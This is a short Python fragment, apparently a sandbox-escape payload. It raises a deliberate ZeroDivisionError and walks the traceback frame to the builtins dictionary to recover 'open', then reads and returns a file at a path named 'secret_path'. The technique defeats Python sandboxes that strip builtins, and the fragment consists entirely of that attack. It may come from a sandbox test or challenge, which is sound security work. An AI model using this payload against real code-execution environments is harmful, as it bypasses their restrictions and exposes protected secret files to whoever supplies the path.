try:
    1 / 0
except ZeroDivisionError as error:
    return error.__traceback__.tb_frame.f_builtins["open"](args["secret_path"]).read()
